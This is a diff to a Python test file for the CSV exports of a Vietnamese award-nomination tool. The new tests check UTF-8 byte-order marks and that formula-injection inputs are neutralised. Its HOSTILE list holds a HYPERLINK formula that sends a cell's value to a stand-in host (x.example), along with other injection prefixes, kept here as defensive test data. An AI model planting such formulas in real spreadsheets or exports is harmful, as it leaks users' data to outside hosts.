@@ -222,7 +222,8 @@ def test_the_result_of_a_sitting_as_csv_keeps_the_contracts_names(fake_review):
 
     result = tdkt("sitting", "result", "s-1", "--csv")
 
-    rows = list(csv.DictReader(io.StringIO(result.stdout)))
+    assert result.stdout.startswith(reports.BOM)
+    rows = list(csv.DictReader(io.StringIO(result.stdout.removeprefix(reports.BOM))))
     assert [row["nomination_id"] for row in rows] == ["n-1", "n-22"]
     assert rows[1] == {"nomination_id": "n-22", "nominee_name": "Lê Văn An", "award_code": "LDTT",
                        "unit_id": "vp", "approve": "3", "reject": "2", "abstain": "2", "required": "4",
@@ -340,7 +341,7 @@ def test_statistics_in_english_list_awards_and_units_then_gender_direct_workers_
 
 
 def test_statistics_as_csv_are_one_row_per_award_and_unit_then_the_counts():
-    rows = list(csv.reader(io.StringIO(reports.statistics_csv(STATS))))
+    rows = list(csv.reader(io.StringIO(reports.statistics_csv(STATS).removeprefix(reports.BOM))))
 
     assert rows[0] == ["group", "key", "approved", "proposed", "rejected", "total"]
     assert rows[1:5] == [["award", "CSTDCS", "3", "2", "0", "5"], ["award", "LDTT", "12", "0", "1", "13"],
@@ -400,3 +401,39 @@ def test_the_sample_directory_passes_the_services_own_checks():
     directory = load(Directory(), yaml.safe_load(text), 4 * 1024 * 1024)
     assert directory_problems(directory, set()) == {}
     assert len(directory["units"]) == 13 and len(directory["councils"]) == 13
+
+
+HOSTILE = ['=HYPERLINK("http://x.example/?"&A2,"Bấm vào đây")', "+1+2", "-2+3", "@SUM(A1:A9)", "\tTAB", "\rCR"]
+
+
+@pytest.mark.parametrize("export", ["sitting", "statistics", "mail"])
+def test_every_csv_export_opens_in_a_spreadsheet_as_utf8_text_without_formulas(export):
+    if export == "sitting":
+        text = reports.sitting_csv({"items": [{"nomination_id": f"n-{i}", "nominee_name": name, "award_code": "LDTT",
+                                               "unit_id": "vp", "approve": 3, "reasons": [name]}
+                                              for i, name in enumerate(HOSTILE)]})
+    elif export == "statistics":
+        text = reports.statistics_csv({"by_unit": {name: {"approved": 1} for name in HOSTILE}})
+    else:
+        text = reports.to_csv(["recipient", "last_error"], [[name, name] for name in HOSTILE])
+
+    data = text.encode("utf-8")
+    assert data.startswith(b"\xef\xbb\xbf")  # the byte-order mark Excel needs to read UTF-8
+    cells = [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")) for cell in row]
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    for name in HOSTILE:
+        assert "'" + name in cells  # kept whole, shown as text
+
+
+def test_a_line_break_inside_a_csv_cell_stays_inside_that_cell():
+    text = reports.to_csv(["name"], [["a\rb"], ["c\nd"], ["e\r\n=1+1"]])
+
+    assert list(csv.reader(io.StringIO(text.removeprefix(reports.BOM), newline=""))) == [
+        ["name"], ["a\rb"], ["c\nd"], ["e\r\n=1+1"]]
+
+
+def test_a_csv_export_keeps_vietnamese_and_numbers_as_they_are():
+    text = reports.to_csv(["name", "approve", "delta"], [["Nguyễn Thị Hương", 3, -1]])
+
+    assert list(csv.reader(io.StringIO(text.removeprefix(reports.BOM)))) == [
+        ["name", "approve", "delta"], ["Nguyễn Thị Hương", "3", "-1"]]
